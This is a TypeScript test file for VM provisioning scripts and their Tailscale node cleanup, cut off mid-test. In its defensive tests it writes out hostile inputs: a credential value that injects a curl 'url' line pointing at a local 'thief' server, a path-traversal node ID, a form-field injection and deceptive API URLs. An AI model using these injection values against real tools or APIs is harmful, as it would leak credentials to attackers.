// The provisioning scripts: shellcheck-clean, and failing loudly with the step's name.
import assert from "node:assert/strict";
import { execFile, spawnSync } from "node:child_process";
import * as http from "node:http";
import { AddressInfo } from "node:net";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { test } from "node:test";
import { CLOUD_INIT_DIR } from "../components/cloudInit";
import { hostCalls, hostProgram, PROGRAM_VAR, unpackProgram, HOST_SCRIPTS_DIR, hostScript } from "../components/hostCommands";
import { FakeDomain, FakeHost } from "./support/fakeVirsh";
import { requireTool } from "./support/tools";

const SCRIPTS = path.join(CLOUD_INIT_DIR, "scripts");
const scripts = fs.readdirSync(SCRIPTS).filter((f) => f.endsWith(".sh"));

test("every provisioning script passes shellcheck", (t) => {
    if (!requireTool("shellcheck", "shellcheck", (r) => t.skip(r))) return;
    const r = spawnSync("shellcheck", ["-x", "-S", "style", ...scripts], { cwd: SCRIPTS, encoding: "utf8" });
    assert.equal(r.status, 0, r.stdout + r.stderr);
});

test("every step script is executable, uses bash and sources the shared library", () => {
    // grow-project-disk.sh runs on its own at every boot, from cloud-init's per-boot folder.
    for (const s of scripts.filter((f) => f !== "lib.sh" && f !== "grow-project-disk.sh")) {
        const text = fs.readFileSync(path.join(SCRIPTS, s), "utf8");
        assert.match(text, /^#!\/bin\/bash\n/, s);
        assert.match(text, /^\. "\$\(dirname "\$0"\)\/lib\.sh"$/m, s);
        assert.ok(fs.statSync(path.join(SCRIPTS, s)).mode & 0o100, `${s} is executable`);
    }
});

test("a failing command stops the step with its name, line and command, and a non-zero exit", () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "pvms-"));
    fs.copyFileSync(path.join(SCRIPTS, "lib.sh"), path.join(dir, "lib.sh"));
    fs.writeFileSync(path.join(dir, "demo-step.sh"), '#!/bin/bash\n. "$(dirname "$0")/lib.sh"\nlog starting\nfalse\necho not reached\n');
    const r = spawnSync("bash", [path.join(dir, "demo-step.sh")], { encoding: "utf8" });
    assert.notEqual(r.status, 0);
    assert.match(r.stderr, /project-vms\[demo-step\]: starting/);
    assert.match(r.stderr, /project-vms\[demo-step\]: FAILED \(exit 1\) at line 4: false/);
    assert.ok(!r.stdout.includes("not reached"));
});

test("project-disk.sh refuses to run without a mounted project disk", () => {
    const r = spawnSync("bash", [path.join(SCRIPTS, "project-disk.sh"), "/nonexistent/project", "project", "dev"], { encoding: "utf8" });
    assert.notEqual(r.status, 0);
    assert.match(r.stderr, /FAILED: \/nonexistent\/project is not mounted/);
});

test("every host script passes shellcheck", (t) => {
    if (!requireTool("shellcheck", "shellcheck", (r) => t.skip(r))) return;
    const files = fs.readdirSync(HOST_SCRIPTS_DIR).filter((f) => f.endsWith(".sh"));
    assert.ok(files.length >= 4);
    const r = spawnSync("shellcheck", ["-x", "-S", "style", ...files], { cwd: HOST_SCRIPTS_DIR, encoding: "utf8" });
    assert.equal(r.status, 0, r.stdout + r.stderr);
});

test("a host command is lib.sh's prelude, the library functions the script calls, the script, and the call of one of its functions", () => {
    const text = hostScript("power.sh", "power_stop");
    assert.ok(text.startsWith("set -Eeuo pipefail\n"), "strict mode first");
    assert.ok(text.endsWith("\npower_stop\n"));
    for (const used of ["acpi_shutdown() {", "domain_state() {", "log() {", "die() {", "v() {"]) assert.ok(text.includes(used), used);
    for (const unused of ["guest_exec() {", "curl_config_line() {", "dir_pool_ensure() {", "human_size() {"])
        assert.ok(!text.includes(unused), `no ${unused}`);
    assert.ok(!/^\s*#/m.test(text), "no comment lines: they do not run");
    assert.ok(hostScript("ready.sh", "ready_wait").includes("guest_exec() {"), "a function the script calls comes along");
    assert.throws(() => hostScript("power.sh", "power_explode"), /has no function power_explode/);
});

test("a command carries its program once, packed, and runs it from its own inputs alone", () => {
    const calls = hostCalls("tailnet.sh", { create: "tailnet_node_record", update: "tailnet_node_keep", delete: "tailnet_node_delete" });
    assert.equal(unpackProgram(calls.program[PROGRAM_VAR]), hostProgram("tailnet.sh"));
    for (const [call, fn] of [
        [calls.create, "tailnet_node_record"],
        [calls.update, "tailnet_node_keep"],
        [calls.delete, "tailnet_node_delete"],
    ]) {
        assert.ok(call!.endsWith(`\n${fn}\n`));
        assert.ok(call!.length < 100, "the call only unpacks and calls");
    }
    assert.ok(calls.program[PROGRAM_VAR].length < hostProgram("tailnet.sh").length / 1.5, "packed to well under the text's size");
    // Run as the command provider runs it: bash -c with the environment, from no checkout at all.
    const power = hostCalls("power.sh", { create: "power_apply" });
    const r = spawnSync("bash", ["-c", power.create], { cwd: "/", encoding: "utf8", env: { PATH: process.env.PATH, ...power.program } });
    assert.notEqual(r.status, 0);
    assert.match(r.stderr, /LIBVIRT_URI is not set/, "the unpacked program ran (its first check)");
    assert.throws(() => hostCalls("power.sh", { create: "power_explode" }), /has no function power_explode/);
});

test("host scripts refuse to run without a libvirt URI, and size messages use the config's units", () => {
    const noUri = spawnSync("bash", ["-c", hostScript("power.sh", "power_apply")], { encoding: "utf8", env: { PATH: process.env.PATH } });
    assert.notEqual(noUri.status, 0);
    assert.match(noUri.stderr, /LIBVIRT_URI is not set/);
    const sizes = spawnSync(
        "bash",
        [
            "-c",
            `${fs.readFileSync(path.join(HOST_SCRIPTS_DIR, "lib.sh"), "utf8")}\nhuman_size 107374182400; human_size 536870912; human_size 1000`,
        ],
        { encoding: "utf8", env: { PATH: process.env.PATH, LIBVIRT_URI: "test:///default" } },
    );
    assert.deepEqual(sizes.stdout.trim().split("\n"), ["100G", "512M", "1000B"]);
});

/**
 * Runs a ready.sh function against the stand-in virsh, its guest's cloud-init exiting `code` with
 * `status`, `log` its output log; the agent's first ping fails. `instance`: the config the
 * program attached and the one the guest runs; `domain`: more of the domain's setup.
 */
function runReady(
    code: number,
    status: string,
    log: string,
    instance?: { attached: string; running: string },
    domain: FakeDomain = {},
    fn = "ready_wait",
) {
    const host = new FakeHost("project-myapp").noSleep();
    host.define("project-myapp", {
        state: "running",
        agentLate: 1,
        cloudInitText: status,
        cloudInitCode: code,
        log: log ? log.replace(/\n$/, "").split("\n") : undefined,
        instanceId: instance?.running,
        ...domain,
    });
    try {
        return spawnSync("bash", ["-c", hostScript("ready.sh", fn)], {
            encoding: "utf8",
            env: {
                ...host.env(),
                LIBVIRT_URI: "qemu:///system",
                DOMAIN: "project-myapp",
                READY_TIMEOUT: "60",
                ...(instance ? { INSTANCE_ID: instance.attached } : {}),
            },
            timeout: 60_000,
        });
    } finally {
        host.cleanup();
    }
}

test("ready.sh waits for the guest agent, then for cloud-init, and says ready", (t) => {
    if (!requireTool("jq", "jq", (r) => t.skip(r))) return;
    const r = runReady(0, "status: done\n", "");
    assert.equal(r.status, 0, r.stderr);
    assert.equal(r.stdout.trim(), "ready");
    assert.match(r.stderr, /project-myapp is ready: cloud-init finished/);
});

test("ready.sh's update: a stopped VM has nothing to wait for; a running one is waited for; a new VM that is not running fails", (t) => {
    if (!requireTool("jq", "jq", (r) => t.skip(r))) return;
    const stopped = runReady(1, "status: error\n", "", undefined, { state: "shut off" }, "ready_recheck");
    assert.equal(stopped.status, 0, stopped.stderr);
    assert.match(stopped.stderr, /project-myapp is shut off: nothing to wait for; its config applies when it next starts/);
    const running = runReady(1, "status: error\n", "", undefined, {}, "ready_recheck");
    assert.notEqual(running.status, 0, "a running VM whose provisioning failed still fails the update");
    assert.match(running.stderr, /provisioning FAILED/);
    const created = runReady(0, "status: done\n", "", undefined, { state: "shut off" });
    assert.notEqual(created.status, 0, "a create never takes a stopped VM as ready");
    assert.match(created.stderr, /project-myapp is not running \(state: 'shut off'\)/);
});

test("ready.sh fails with cloud-init's failing step and the tail of its output log", (t) => {
    if (!requireTool("jq", "jq", (r) => t.skip(r))) return;
    const r = runReady(
        1,
        "status: error\nerrors:\n\t- Failed to run module scripts-user\n",
        "project-vms[nix]: FAILED (exit 7) at line 15: curl\n",
    );
    assert.notEqual(r.status, 0);
    assert.match(r.stderr, /provisioning FAILED/);
    assert.match(r.stderr, /Failed to run module scripts-user/);
    assert.match(r.stderr, /project-vms\[nix\]: FAILED \(exit 7\) at line 15: curl/);
    assert.match(r.stderr, /ERROR: project-myapp: cloud-init failed/);
});

test("ready.sh on a VM whose provisioning of the current config failed: no reboot (it would fail the same), the failure and its log", (t) => {
    if (!requireTool("jq", "jq", (r) => t.skip(r))) return;
    const r = runReady(1, "status: error\n", "project-vms[packages]: FAILED (exit 100) at line 9: apt-get\n", {
        attached: "project-myapp-aaaaaaaaaaaa",
        running: "project-myapp-aaaaaaaaaaaa",
    });
    assert.notEqual(r.status, 0);
    assert.doesNotMatch(r.stderr, /rebooting/);
    assert.match(r.stderr, /project-vms\[packages\]: FAILED \(exit 100\) at line 9: apt-get/);
    assert.match(r.stderr, /ERROR: project-myapp: cloud-init failed/);
});

test("ready.sh on a VM running fine with an older config: the new one applies at its next boot, no reboot", (t) => {
    if (!requireTool("jq", "jq", (r) => t.skip(r))) return;
    const r = runReady(0, "status: done\n", "", { attached: "project-myapp-bbbbbbbbbbbb", running: "project-myapp-aaaaaaaaaaaa" });
    assert.equal(r.status, 0, r.stderr);
    assert.match(r.stderr, /runs config project-myapp-aaaaaaaaaaaa; the new one \(project-myapp-bbbbbbbbbbbb\) applies at its next boot/);
    assert.doesNotMatch(r.stderr, /rebooting/);
});

test("ready.sh polls again when one poll of the guest agent fails", (t) => {
    if (!requireTool("jq", "jq", (r) => t.skip(r))) return;
    const r = runReady(0, "status: done\n", "", undefined, { agentBusy: 1 });
    assert.equal(r.status, 0, r.stderr);
    assert.equal(r.stdout.trim(), "ready");
});

test("a command the guest agent cannot start for a while (its channel resetting as the guest boots) is started again: ready.sh gives no verdict of failure", (t) => {
    if (!requireTool("jq", "jq", (r) => t.skip(r))) return;
    const r = runReady(
        0,
        "status: done\n",
        "",
        { attached: "project-myapp-aaaaaaaaaaaa", running: "project-myapp-aaaaaaaaaaaa" },
        { execLate: 2 },
    );
    assert.equal(r.status, 0, r.stderr);
    assert.equal(r.stdout.trim(), "ready");
    assert.doesNotMatch(r.stderr, /FAILED/);
});

test("ready.sh lets warnings through", (t) => {
    if (!requireTool("jq", "jq", (r) => t.skip(r))) return;
    const r = runReady(2, "status: done\nrecoverable_errors:\n  WARNING: deprecated key\n", "");
    assert.equal(r.status, 0, r.stderr);
    assert.match(r.stderr, /ready; cloud-init reported warnings/);
    assert.match(r.stderr, /deprecated key/);
});

/** A device as the Tailscale API lists it (the fields the scripts read). */
interface FakeDevice {
    id: string;
    nodeId?: string;
    hostname: string;
    name: string;
    tags?: string[];
    nodeKey?: string;
    created?: string;
}

/**
 * A stand-in for the Tailscale API on 127.0.0.1: holds `devices`, records every request (method,
 * path, authorization header) in `calls` and their bodies in `bodies`; DELETE removes a device.
 */
async function fakeTailscale(
    opts: { devices?: FakeDevice[]; token?: string } = {},
): Promise<{ url: string; calls: string[]; bodies: string[]; devices: FakeDevice[]; close: () => void }> {
    const calls: string[] = [];
    const bodies: string[] = [];
    const devices: FakeDevice[] = opts.devices ?? [
        { id: "n1", hostname: "project-myapp", name: "project-myapp.bat-boa.ts.net" },
        { id: "n2", hostname: "project-myapp-1", name: "project-myapp-1.bat-boa.ts.net" },
        { id: "n3", hostname: "laptop", name: "laptop.bat-boa.ts.net" },
        { id: "n4", hostname: "project-myapp", name: "project-myapp-2.bat-boa.ts.net" },
    ];
    const server = http.createServer((req, res) => {
        let body = "";
        req.on("data", (c) => {
            body += c;
        });
        req.on("end", () => {
            calls.push(`${req.method} ${req.url} ${req.headers.authorization ?? ""}`);
            bodies.push(body);
            const byId = (id: string) => devices.findIndex((d) => d.nodeId === id || d.id === id);
            const device = /^\/api\/v2\/device\/([^/?]+)(\?fields=all)?$/.exec(req.url ?? "");
            if (req.method === "POST" && req.url === "/api/v2/oauth/token") {
                res.end(JSON.stringify({ access_token: opts.token ?? "oauth-token" }));
            } else if (req.method === "GET" && req.url?.startsWith("/api/v2/tailnet/-/devices")) {
                res.end(JSON.stringify({ devices }));
            } else if (req.method === "GET" && device && byId(device[1]) >= 0) {
                res.end(JSON.stringify(devices[byId(device[1])]));
            } else if (req.method === "DELETE" && device && byId(device[1]) >= 0) {
                devices.splice(byId(device[1]), 1);
                res.end("{}");
            } else {
                res.statusCode = 404;
                res.end(JSON.stringify({ message: "not found" }));
            }
        });
    });
    await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
    const { port } = server.address() as AddressInfo;
    return { url: `http://127.0.0.1:${port}`, calls, bodies, devices, close: () => server.close() };
}

/**
 * Runs a tailnet.sh function against the stand-in virsh; FAKE_TS_STATUS in `env` is what the
 * guest's `tailscale status --json` prints, FAKE_DOMSTATE its state (default running).
 */
function runTailnet(env: Record<string, string>, fn = "tailnet_node_delete"): Promise<{ code: number; stdout: string; stderr: string }> {
    const { FAKE_DOMSTATE, FAKE_TS_STATUS, ...rest } = env;
    const host = new FakeHost("project-myapp");
    host.define("project-myapp", { state: FAKE_DOMSTATE ?? "running", tailscale: FAKE_TS_STATUS });
    return new Promise((resolve) => {
        execFile(
            "bash",
            ["-c", hostScript("tailnet.sh", fn)],
            {
                env: {
                    ...host.env(),
                    LIBVIRT_URI: "qemu:///system",
                    DOMAIN: "project-myapp",
                    NODE_HOSTNAME: "project-myapp",
                    TS_TAGS: "tag:project-vm",
                    ...rest,
                },
            },
            (err, stdout, stderr) => {
                host.cleanup();
                resolve({ code: err ? (typeof err.code === "number" ? err.code : 1) : 0, stdout, stderr });
            },
        );
    });
}

/**
 * One tailnet shared by two hosts that both have a project myapp: storage's VM joined first and
 * holds the name project-myapp, raider's joined as project-myapp-1. Same OS hostname, same tags.
 */
function sharedTailnet(): FakeDevice[] {
    return [
        {
            id: "101",
            nodeId: "nStorageMyapp1CNTRL",
            hostname: "project-myapp",
            name: "project-myapp.bat-boa.ts.net",
            tags: ["tag:project-vm"],
            nodeKey: "nodekey:storage",
            created: "2025-03-01T09:12:40Z",
        },
        {
            id: "102",
            nodeId: "nRaiderMyapp1CNTRL",
            hostname: "project-myapp",
            name: "project-myapp-1.bat-boa.ts.net",
            tags: ["tag:project-vm"],
            nodeKey: "nodekey:raider",
            created: "2025-03-02T14:07:31Z",
        },
        {
            id: "103",
            nodeId: "nLaptop1CNTRL",
            hostname: "laptop",
            name: "laptop.bat-boa.ts.net",
            tags: [],
            nodeKey: "nodekey:laptop",
            created: "2024-11-20T08:00:00Z",
        },
    ];
}

/** Raider's myapp's auth key, as the provider's TailnetKey reports it: made before raider's node joined, after storage's. */
const RAIDER_KEY = { TS_KEY_CREATED: "2025-03-02T14:02:10Z", TS_KEY_EXPIRES: "2025-03-03T14:02:10Z" };

/** What tailnet_node_record left in Pulumi's state for raider's myapp. */
const RAIDER_RECORD = JSON.stringify({ nodeId: "nRaiderMyapp1CNTRL", hostname: "project-myapp" });

test("tailnet.sh: two hosts' VMs of the same name on one tailnet: removing raider's deletes raider's machine only, with the API key or an OAuth client", async (t) => {
    if (!requireTool("jq", "jq", (r) => t.skip(r)) || !requireTool("curl", "curl", (r) => t.skip(r))) return;
    for (const creds of <Record<string, string>[]>[
        { TS_API_KEY: "tskey-api-secret" },
        { TS_OAUTH_CLIENT_ID: "cid", TS_OAUTH_CLIENT_SECRET: "csecret" },
    ]) {
        const api = await fakeTailscale({ devices: sharedTailnet() });
        try {
            const r = await runTailnet({ TS_BASE_URL: api.url, PULUMI_COMMAND_STDOUT: RAIDER_RECORD, ...creds });
            assert.equal(r.code, 0, r.stderr);
            const bearer = "TS_API_KEY" in creds ? "Bearer tskey-api-secret" : "Bearer oauth-token";
            assert.deepEqual(
                api.calls.filter((c) => !c.startsWith("POST /api/v2/oauth/token")),
                [`GET /api/v2/device/nRaiderMyapp1CNTRL?fields=all ${bearer}`, `DELETE /api/v2/device/nRaiderMyapp1CNTRL ${bearer}`],
            );
            assert.deepEqual(
                api.devices.map((d) => d.nodeId),
                ["nStorageMyapp1CNTRL", "nLaptop1CNTRL"],
                "storage's project-myapp is still there",
            );
            assert.match(r.stderr, /deleted tailnet machine project-myapp \(nRaiderMyapp1CNTRL, project-myapp-1\.bat-boa\.ts\.net\)/);
        } finally {
            api.close();
        }
    }
});

test("tailnet.sh deletes nothing it cannot prove is this VM's: no record, a gone node, another hostname or missing tags", async (t) => {
    if (!requireTool("jq", "jq", (r) => t.skip(r)) || !requireTool("curl", "curl", (r) => t.skip(r))) return;
    const api = await fakeTailscale({ devices: sharedTailnet() });
    const creds = { TS_BASE_URL: api.url, TS_API_KEY: "tskey-api-secret" };
    try {
        for (const stdout of ["", "not json", "{}"]) {
            const r = await runTailnet({ ...creds, PULUMI_COMMAND_STDOUT: stdout });
            assert.equal(r.code, 0, r.stderr);
            assert.match(r.stderr, /no tailnet node was recorded for project-myapp: deleting none/);
        }
        assert.equal(api.calls.length, 0, "no record: not even a look by name");

        const gone = await runTailnet({ ...creds, PULUMI_COMMAND_STDOUT: JSON.stringify({ nodeId: "nGone1CNTRL" }) });
        assert.equal(gone.code, 0, gone.stderr);
        assert.match(gone.stderr, /already gone/);

        const laptop = await runTailnet({ ...creds, PULUMI_COMMAND_STDOUT: JSON.stringify({ nodeId: "nLaptop1CNTRL" }) });
        assert.equal(laptop.code, 0, laptop.stderr);
        assert.match(
            laptop.stderr,
            /WARNING: not deleting tailnet node nLaptop1CNTRL.*its hostname is laptop; it lacks the tags tag:project-vm/,
        );

        const untagged = await runTailnet({ ...creds, PULUMI_COMMAND_STDOUT: RAIDER_RECORD, TS_TAGS: "tag:project-vm,tag:raider" });
        assert.match(untagged.stderr, /WARNING: not deleting .*it lacks the tags tag:raider/);

        const hostile = await runTailnet({ ...creds, PULUMI_COMMAND_STDOUT: JSON.stringify({ nodeId: "../tailnet/-/devices" }) });
        assert.notEqual(hostile.code, 0);
        assert.match(hostile.stderr, /is not a Tailscale node ID/);

        assert.ok(!api.calls.some((c) => c.startsWith("DELETE")), api.calls.join("\n"));
        assert.equal(api.devices.length, 3);
    } finally {
        api.close();
    }
    const script = hostScript("tailnet.sh", "tailnet_node_delete");
    assert.ok(!/-H "Authorization/.test(script), "no bearer token in curl's arguments");
});

test("tailnet.sh records the node the guest says it is, once the API confirms it is this VM's machine, made with this VM's auth key", async (t) => {
    if (!requireTool("jq", "jq", (r) => t.skip(r)) || !requireTool("curl", "curl", (r) => t.skip(r))) return;
    const api = await fakeTailscale({ devices: sharedTailnet() });
    const creds = { TS_BASE_URL: api.url, TS_API_KEY: "tskey-api-secret", ...RAIDER_KEY };
    try {
        const r = await runTailnet({ ...creds, FAKE_TS_STATUS: status("nRaiderMyapp1CNTRL", "nodekey:raider") }, "tailnet_node_record");
        assert.equal(r.code, 0, r.stderr);
        assert.deepEqual(JSON.parse(r.stdout), JSON.parse(RAIDER_RECORD), "what the delete reads back");
        assert.match(r.stderr, /project-myapp is tailnet node nRaiderMyapp1CNTRL \(project-myapp-1\.bat-boa\.ts\.net\)/);
        assert.match(
            r.stderr,
            /another machine already holds the name project-myapp on the tailnet .* this VM is project-myapp-1\. That machine is not deleted on this VM's behalf/,
        );
        assert.doesNotMatch(r.stderr, /WARNING/);

        // Fractions of a second, as RFC 3339 allows, are the same time.
        const fraction = await runTailnet(
            { ...creds, TS_KEY_CREATED: "2025-03-02T14:02:10.734Z", FAKE_TS_STATUS: status("nRaiderMyapp1CNTRL", "nodekey:raider") },
            "tailnet_node_record",
        );
        assert.deepEqual(JSON.parse(fraction.stdout), JSON.parse(RAIDER_RECORD), fraction.stderr);

        // A guest that has not joined, or names a node the API does not know, fails the create (retried at the next up).
        for (const [id, key, why] of [
            ["nNoSuch1CNTRL", "nodekey:x", /which the Tailscale API does not know/],
            ["", "", /has not joined the tailnet/],
        ] as const) {
            const bad = await runTailnet({ ...creds, FAKE_TS_STATUS: status(id, key) }, "tailnet_node_record");
            assert.notEqual(bad.code, 0, `${id} refused`);
            assert.match(bad.stderr, why);
            assert.equal(bad.stdout, "");
        }
        // A guest naming another node (a node key that is not that node's, or another machine) is not recorded.
        for (const [id, key, why] of [
            ["nStorageMyapp1CNTRL", "nodekey:raider", /its node key is not the one the VM holds/],
            ["nLaptop1CNTRL", "nodekey:laptop", /its hostname is laptop/],
        ] as const) {
            const bad = await runTailnet({ ...creds, FAKE_TS_STATUS: status(id, key) }, "tailnet_node_record");
            assert.equal(bad.code, 0, bad.stderr);
            assert.match(bad.stderr, new RegExp(`WARNING: not recording tailnet node ${id} .*not provably its machine: .*${why.source}`));
            assert.equal(JSON.parse(bad.stdout).nodeId, undefined, `${id} not recorded`);
        }
        const stopped = await runTailnet(
            { ...creds, FAKE_DOMSTATE: "shut off", FAKE_TS_STATUS: status("nRaiderMyapp1CNTRL", "nodekey:raider") },
            "tailnet_node_record",
        );
        assert.notEqual(stopped.code, 0);
        assert.match(stopped.stderr, /project-myapp is not running: its tailnet node can only be read from the guest/);
        assert.ok(!api.calls.some((c) => c.startsWith("DELETE")));
    } finally {
        api.close();
    }
});

/** What `tailscale status --json` in the guest says: its node ID and node key (none when key is undefined). */
function status(id: string, key?: string): string {
    return JSON.stringify({
        BackendState: "Running",
        Self: { ID: id, ...(key === undefined ? {} : { PublicKey: key }), HostName: "project-myapp" },
    });
}

/**
 * Record, then keep (an update, the VM off) and delete what was recorded, against the shared
 * tailnet: the stdout of each, the API's calls and the machines left.
 */
async function recordThenDelete(guest: string, env: Record<string, string> = {}) {
    const api = await fakeTailscale({ devices: sharedTailnet() });
    try {
        const creds = { TS_BASE_URL: api.url, TS_API_KEY: "tskey-api-secret", ...RAIDER_KEY, ...env };
        const record = await runTailnet({ ...creds, FAKE_TS_STATUS: guest }, "tailnet_node_record");
        const keep = await runTailnet({ ...creds, FAKE_DOMSTATE: "shut off", PULUMI_COMMAND_STDOUT: record.stdout }, "tailnet_node_keep");
        const del = await runTailnet({ ...creds, PULUMI_COMMAND_STDOUT: keep.stdout }, "tailnet_node_delete");
        return { record, keep, del, calls: [...api.calls], left: api.devices.map((d) => d.nodeId) };
    } finally {
        api.close();
    }
}

test("tailnet.sh: a hostile guest reporting a peer's node ID and node key (a machine made before this VM's auth key) is not recorded, and nothing is deleted when the VM goes", async (t) => {
    if (!requireTool("jq", "jq", (r) => t.skip(r)) || !requireTool("curl", "curl", (r) => t.skip(r))) return;
    // Raider's guest, root-compromised, reports storage's myapp: it sees its ID and key among its peers.
    const r = await recordThenDelete(status("nStorageMyapp1CNTRL", "nodekey:storage"));
    assert.equal(r.record.code, 0, `pulumi up goes on: ${r.record.stderr}`);
    assert.equal(JSON.parse(r.record.stdout).nodeId, undefined, "nothing recorded");
    assert.match(
        r.record.stderr,
        /WARNING: not recording tailnet node nStorageMyapp1CNTRL \(project-myapp\.bat-boa\.ts\.net\), which project-myapp says it is: not provably its machine: it joined the tailnet at 2025-03-01T09:12:40Z, before the VM's auth key was made \(2025-03-02T14:02:10Z\)\. Nothing is deleted for it/,
    );
    assert.match(r.record.stderr, /remove it in the admin console if it is a leftover/);
    assert.equal(r.keep.code, 0, r.keep.stderr);
    assert.deepEqual(
        JSON.parse(r.keep.stdout),
        JSON.parse(r.record.stdout),
        "an update (the VM off) keeps it unrecorded, without the guest",
    );
    assert.equal(r.del.code, 0, r.del.stderr);
    assert.match(
        r.del.stderr,
        /no tailnet node was recorded for project-myapp \(the node its guest named was not provably its own: nStorageMyapp1CNTRL .*\): deleting none/,
    );
    assert.ok(!r.calls.some((c) => c.startsWith("DELETE")), r.calls.join("\n"));
    assert.deepEqual(
        r.left,
        ["nStorageMyapp1CNTRL", "nRaiderMyapp1CNTRL", "nLaptop1CNTRL"],
        "storage's myapp (and every other machine) stays",
    );
});

test("tailnet.sh: a guest reporting no node key is not recorded (the key check cannot be skipped)", async (t) => {
    if (!requireTool("jq", "jq", (r) => t.skip(r)) || !requireTool("curl", "curl", (r) => t.skip(r))) return;
    for (const guest of [status("nStorageMyapp1CNTRL"), status("nRaiderMyapp1CNTRL"), status("nRaiderMyapp1CNTRL", "")]) {
        const r = await recordThenDelete(guest);
        const id = JSON.parse(guest).Self.ID;
        assert.equal(r.record.code, 0, r.record.stderr);
        assert.equal(JSON.parse(r.record.stdout).nodeId, undefined, `${guest}: nothing recorded`);
        assert.match(r.record.stderr, new RegExp(`WARNING: not recording tailnet node ${id} .*the guest reported no node key`));
        assert.ok(!r.calls.some((c) => c.startsWith("DELETE")), r.calls.join("\n"));
        assert.equal(r.left.length, 3);
    }
});

test("tailnet.sh: a node it cannot date against this VM's auth key is not recorded: no key time, no node time, or made after the key expired", async (t) => {
    if (!requireTool("jq", "jq", (r) => t.skip(r)) || !requireTool("curl", "curl", (r) => t.skip(r))) return;
    const raider = status("nRaiderMyapp1CNTRL", "nodekey:raider");
    for (const [env, why] of [
        [{ TS_KEY_CREATED: "" }, /the VM's auth key has no known creation time/],
        [{ TS_KEY_CREATED: "yesterday" }, /the VM's auth key has no known creation time/],
        // Not the API's notation (UTC), or Go's zero time: no bound at all, so no proof.
        [{ TS_KEY_CREATED: "2025-03-02T16:02:10+02:00" }, /the VM's auth key has no known creation time/],
        [{ TS_KEY_CREATED: "0001-01-01T00:00:00Z" }, /the VM's auth key has no known creation time/],
        [
            { TS_KEY_EXPIRES: "2025-03-02T14:05:00Z" },
            /it joined the tailnet at 2025-03-02T14:07:31Z, after the VM's auth key expired \(2025-03-02T14:05:00Z\)/,
        ],
    ] as const) {
        const r = await recordThenDelete(raider, env);
        assert.equal(r.record.code, 0, r.record.stderr);
        assert.equal(JSON.parse(r.record.stdout).nodeId, undefined, JSON.stringify(env));
        assert.match(r.record.stderr, why);
        assert.deepEqual(r.left.length, 3, "nothing deleted");
    }
    const api = await fakeTailscale({ devices: sharedTailnet().map((d) => ({ ...d, created: undefined })) });
    try {
        const r = await runTailnet(
            { TS_BASE_URL: api.url, TS_API_KEY: "tskey-api-secret", ...RAIDER_KEY, FAKE_TS_STATUS: raider },
            "tailnet_node_record",
        );
        assert.equal(r.code, 0, r.stderr);
        assert.equal(JSON.parse(r.stdout).nodeId, undefined);
        assert.match(r.stderr, /the API gives no time it joined/);
    } finally {
        api.close();
    }
});

test("tailnet.sh: the honest guest's own machine is recorded, and deleting the VM deletes exactly it", async (t) => {
    if (!requireTool("jq", "jq", (r) => t.skip(r)) || !requireTool("curl", "curl", (r) => t.skip(r))) return;
    const r = await recordThenDelete(status("nRaiderMyapp1CNTRL", "nodekey:raider"));
    assert.deepEqual(JSON.parse(r.record.stdout), JSON.parse(RAIDER_RECORD), r.record.stderr);
    assert.deepEqual(JSON.parse(r.keep.stdout), JSON.parse(RAIDER_RECORD), r.keep.stderr);
    assert.equal(r.del.code, 0, r.del.stderr);
    assert.deepEqual(
        r.calls.filter((c) => c.startsWith("DELETE")),
        ["DELETE /api/v2/device/nRaiderMyapp1CNTRL Bearer tskey-api-secret"],
    );
    assert.deepEqual(r.left, ["nStorageMyapp1CNTRL", "nLaptop1CNTRL"]);
});

test("tailnet.sh quotes every value it hands curl: hostile credentials reach no other URL, and are refused or sent exactly", async (t) => {
    if (!requireTool("jq", "jq", (r) => t.skip(r)) || !requireTool("curl", "curl", (r) => t.skip(r))) return;
    const api = await fakeTailscale({ devices: [] });
    const thief = await fakeTailscale({ devices: [] });
    const steal = `a"\nurl = "${thief.url}/steal`;
    try {
        // A newline (or any control character) has no safe spelling in curl's config: refused.
        for (const env of <Record<string, string>[]>[
            { TS_OAUTH_CLIENT_ID: steal, TS_OAUTH_CLIENT_SECRET: "tskey-client-secret" },
            { TS_OAUTH_CLIENT_ID: "cid", TS_OAUTH_CLIENT_SECRET: steal },
            { TS_OAUTH_CLIENT_ID: "cid\r", TS_OAUTH_CLIENT_SECRET: "tskey-client-secret" },
            { TS_API_KEY: steal },
            { TS_API_KEY: "tskey-api-x\tY" },
        ]) {
            const r = await runTailnet({ PULUMI_COMMAND_STDOUT: RAIDER_RECORD, TS_BASE_URL: api.url, ...env });
            assert.deepEqual(thief.calls, [], `nothing reached another URL: ${JSON.stringify(env)}`);
            assert.notEqual(r.code, 0, `refused: ${JSON.stringify(env)}`);
            assert.match(r.stderr, /newline or another control character|is not an API key/);
        }
        assert.deepEqual(thief.calls, [], "nothing reached another URL");
        assert.deepEqual(api.calls, [], "nothing was sent with a broken value");

        // Quotes, backslashes and spaces are sent exactly, URL-encoded as form fields.
        const id = 'c"i d\\ & x=1 \\"';
        const secret = 'tskey-client-"\\ secret&client_id=evil';
        const r = await runTailnet({
            PULUMI_COMMAND_STDOUT: RAIDER_RECORD,
            TS_BASE_URL: api.url,
            TS_OAUTH_CLIENT_ID: id,
            TS_OAUTH_CLIENT_SECRET: secret,
        });
        assert.equal(r.code, 0, r.stderr);
        assert.equal(api.calls[0], "POST /api/v2/oauth/token ");
        const form = new URLSearchParams(api.bodies[0]);
        assert.deepEqual(
            [...form.entries()],
            [
                ["client_id", id],
                ["client_secret", secret],
            ],
        );
        assert.deepEqual(thief.calls, []);

        // An API key with a quote or backslash is not a key: refused before it reaches a header.
        api.calls.length = 0;
        const quoted = await runTailnet({ PULUMI_COMMAND_STDOUT: RAIDER_RECORD, TS_BASE_URL: api.url, TS_API_KEY: 'tskey-api-"x\\' });
        assert.notEqual(quoted.code, 0);
        assert.deepEqual(api.calls, []);
    } finally {
        api.close();
        thief.close();
    }
});

test("tailnet.sh sends credentials only to an https API (plain http only to this machine), at no path", async (t) => {
    if (!requireTool("jq", "jq", (r) => t.skip(r)) || !requireTool("curl", "curl", (r) => t.skip(r))) return;
    for (const url of [
        "http://api.example.com",
        "https://api.tailscale.com/../evil",
        "https://evil.example@api.tailscale.com",
        "ftp://x",
        "https://api.tailscale.com\n",
    ]) {
        const r = await runTailnet({ PULUMI_COMMAND_STDOUT: RAIDER_RECORD, TS_BASE_URL: url, TS_API_KEY: "tskey-api-secret" });
